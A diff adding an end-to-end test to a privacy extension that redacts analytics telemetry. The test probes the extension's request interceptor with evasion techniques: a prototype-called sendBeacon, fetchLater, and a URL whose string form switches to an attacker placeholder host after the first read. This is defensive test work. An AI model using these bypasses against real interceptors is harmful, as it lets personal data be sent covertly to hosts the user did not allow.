@@ -16,6 +16,10 @@
 // its body), claim another host, or write counts into another site's popup.
 // (Forged settings, handshakes and GPC: tests/e2e/extension-channel.test.mjs.)
 //
+// Seams of the interceptor the extension installs, in the page and through the worker: a
+// beacon sent by the prototype's method, fetchLater, a URL whose string form changes after the
+// first read.
+//
 // The pages come from a test server on made-up hosts mapped to 127.0.0.1 (`?csp=strict` serves
 // one whose CSP has no 'wasm-unsafe-eval', so its requests go through the worker); the vendor endpoint is
 // the demo collector under /posthog on the same host. Each test waits for the worker's receipts
@@ -226,3 +230,23 @@ test("forgery: a frame's telemetry counts for the tab's site and takes its stric
   assert.equal((await countsFor(worker, 'shop.test')).stripped, 1, 'counted for the tab\'s site');
   assert.equal(await countsFor(worker, 'evil.test'), null, 'not for the frame\'s own site');
 });
+
+// fetchLater exists only in secure contexts: these pages are served as http://127.0.0.1.
+for (const csp of [false, true]) {
+  test(`the interceptor's seams hold with the extension (${csp ? 'strict CSP: the worker' : 'plain page'}): prototype sendBeacon, fetchLater, a URL read once`, async () => {
+    const local = `http://127.0.0.1:${port}`;
+    await setSettings(worker, { level: 'strip', endpoints: [...endpoints, { vendor: 'posthog', hosts: [`127.0.0.1:${port}`], prefix: '/posthog' }] });
+    const got = await visit(`${local}/seams.html${csp ? '?csp=strict' : ''}`, `<!doctype html><html><head></head><body><script>
+      const body = (name) => JSON.stringify({ api_key: 'phc_TEST', batch: [{ event: name, properties: { token: 'phc_TEST', note: 'mail ${EMAIL}' } }] });
+      Navigator.prototype.sendBeacon.call(navigator, '/posthog/e/', body('beacon'));
+      fetchLater('/posthog/e/', { method: 'POST', body: body('fetch-later'), activateAfter: 0 });
+      // A URL whose string form changes after the first read: decided and sent as first read.
+      let reads = 0;
+      fetch({ toString: () => (reads++ ? '${EVIL}/posthog/e/' : '/posthog/e/') }, { method: 'POST', body: body('read-once') }).catch(() => {});
+    </script></body></html>`, { site: '127.0.0.1', receipts: 3 });
+    const names = got.flatMap((r) => r.body.batch.map((e) => e.event)).sort();
+    assert.deepEqual(names, ['beacon', 'fetch-later', 'read-once']);
+    assert.ok(got.every((r) => !r.text.includes(EMAIL)), 'each one redacted');
+    assert.ok(got.every((r) => r.headers.host === `127.0.0.1:${port}`), 'sent where it was decided');
+  });
+}
